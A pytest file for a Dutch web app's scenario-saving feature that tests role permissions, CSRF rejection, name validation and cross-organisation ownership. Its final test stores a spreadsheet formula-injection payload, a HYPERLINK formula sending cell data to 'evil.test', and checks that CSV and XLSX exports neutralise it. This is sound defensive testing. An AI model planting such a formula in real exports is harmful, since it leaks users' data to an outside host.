"""Saving a scenario from the Scenario's page: a redacteur or beheerder with the session's
CSRF token stores a new version; a lezer, a forged form or a pack name is refused and
nothing is stored. The saved scenario then runs in the CLI and the API like any other."""

import csv
import html
import io
from collections.abc import Iterator

import polars as pl
import pytest
from sqlalchemy import func, select

from admin_helpers import EMAILS, World, log_in, world_fixture
from conftest import _fresh_url
from pijplijn.store.db import session_scope
from pijplijn.store.scenario_models import Scenario


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    folder = tmp_path_factory.mktemp("scenario-save")
    yield from world_fixture(_fresh_url(folder), folder / "uploads")


def stored(world: World) -> int:
    with session_scope(world.engine) as session:
        return int(session.scalar(select(func.count()).select_from(Scenario)) or 0)


def test_a_redacteur_saves_the_sliders_as_a_new_version(world: World) -> None:
    with world.client() as client:
        csrf = log_in(client, EMAILS["redacteur_own"])
        page = client.get("/scenarios?deelname-bbl=20").text
        assert 'action="/scenarios/bewaren"' in page  # the form is there for an editor
        form = {"csrf": csrf, "name": "plan-bbl", "title": "BBL <plus>", "deelname-bbl": "20"}
        first = client.post("/scenarios/bewaren", data=form, follow_redirects=False)
        assert first.status_code == 303
        assert "opgeslagen=plan-bbl+v1" in first.headers["location"]
        again = client.post("/scenarios/bewaren", data={**form, "deelname-bbl": "30"})
        assert again.status_code == 200 and "plan-bbl v2" in again.text
        listed = client.get("/api/v1/scenarios").json()["data"]
        versions = {(s["name"], s["version"]) for s in listed if s["origin"] == "database"}
        assert {("plan-bbl", 1), ("plan-bbl", 2)} <= versions
        saved = next(s for s in listed if s["name"] == "plan-bbl" and s["version"] == 2)
        assert saved["source"] == f"web: {EMAILS['redacteur_own']}"
        assert saved["title"] == "BBL <plus>"  # stored as typed (escaped where shown)
        # The saved scenario is the same as the sliders: same projection through the API.
        by_name = client.get("/api/v1/projections?scenario=plan-bbl&state=mbo:techniek").json()
        by_levers = client.get(
            "/api/v1/projections?levers=deelname-bbl:0.3&state=mbo:techniek"
        ).json()
        assert [p["value"] for p in by_name["data"]] == [p["value"] for p in by_levers["data"]]


@pytest.mark.parametrize(
    ("role", "form", "status"),
    [
        ("lezer", {"name": "plan-x", "deelname-bbl": "20"}, 403),
        ("redacteur_own", {"name": "plan-x", "deelname-bbl": "20", "csrf": "vals"}, 403),
        ("redacteur_own", {"name": "techniek-agenda", "deelname-bbl": "20"}, 400),
        ("redacteur_own", {"name": "Plan X!", "deelname-bbl": "20"}, 400),
        ("redacteur_own", {"name": "plan-x"}, 400),
        ("beheerder", {"name": "plan-x", "deelname-bbl": "1e9"}, 400),
    ],
)
def test_refused_saves_store_nothing(
    world: World, role: str, form: dict[str, str], status: int
) -> None:
    before = stored(world)
    with world.client() as client:
        csrf = log_in(client, EMAILS[role])
        data = {"csrf": csrf, **form}
        response = client.post(
            "/scenarios/bewaren", data=data, headers={"Accept": "application/json"}
        )
        assert response.status_code == status, response.text[:300]
    assert stored(world) == before


def test_anonymous_is_sent_to_the_login_page(world: World) -> None:
    with world.client() as client:
        page = client.get("/scenarios?deelname-bbl=20").text
        assert 'action="/scenarios/bewaren"' not in page
        response = client.post(
            "/scenarios/bewaren", data={"name": "plan-y"}, follow_redirects=False
        )
        assert response.status_code == 303 and "/inloggen" in response.headers["location"]


def test_only_the_owning_organisation_or_a_beheerder_adds_versions_of_a_name(
    world: World,
) -> None:
    form = {"name": "plan-eigendom", "deelname-bbl": "20"}
    with world.client() as own:
        csrf = log_in(own, EMAILS["redacteur_own"])
        first = own.post("/scenarios/bewaren", data={**form, "csrf": csrf}, follow_redirects=False)
        assert first.status_code == 303
    before = stored(world)
    with world.client() as other:
        csrf = log_in(other, EMAILS["redacteur_other"])
        intruder = other.post(
            "/scenarios/bewaren", data={**form, "csrf": csrf, "deelname-bbl": "90"}
        )
        assert intruder.status_code == 403
        assert "van een andere organisatie" in html.unescape(intruder.text)
    assert stored(world) == before  # nothing stored: the name still runs the owner's levers
    with world.client() as beheer:
        csrf = log_in(beheer, EMAILS["beheerder"])
        second = beheer.post(
            "/scenarios/bewaren", data={**form, "csrf": csrf}, follow_redirects=False
        )
        assert second.status_code == 303 and "plan-eigendom+v2" in second.headers["location"]


FORMULA = '=HYPERLINK("http://evil.test/?leak="&A2,"Klik hier")'


def test_a_formula_shaped_title_is_neutralised_in_csv_and_xlsx(world: World) -> None:
    with world.client() as client:
        csrf = log_in(client, EMAILS["redacteur_own"])
        form = {"csrf": csrf, "name": "plan-formule", "title": FORMULA, "deelname-bbl": "20"}
        assert (
            client.post("/scenarios/bewaren", data=form, follow_redirects=False).status_code == 303
        )
        as_json = client.get("/api/v1/scenarios").json()["data"]
        as_csv = client.get("/api/v1/scenarios?format=csv").text
        as_xlsx = client.get("/api/v1/scenarios?format=xlsx").content
    # JSON carries the title as typed; the spreadsheets get it as text, never as a formula.
    assert next(s for s in as_json if s["name"] == "plan-formule")["title"] == FORMULA
    rows = list(csv.DictReader(io.StringIO(as_csv)))
    titles = {r["name"]: r["title"] for r in rows if r["version"]}
    assert titles["plan-formule"] == "'" + FORMULA
    sheet = pl.read_excel(io.BytesIO(as_xlsx))
    saved = sheet.filter(pl.col("name") == "plan-formule")
    assert saved["title"].to_list() == ["'" + FORMULA]
    assert saved["version"].dtype.is_numeric()  # numbers stay numbers
    assert all(not (cell or "").startswith(("=", "+", "-", "@")) for cell in sheet["title"])
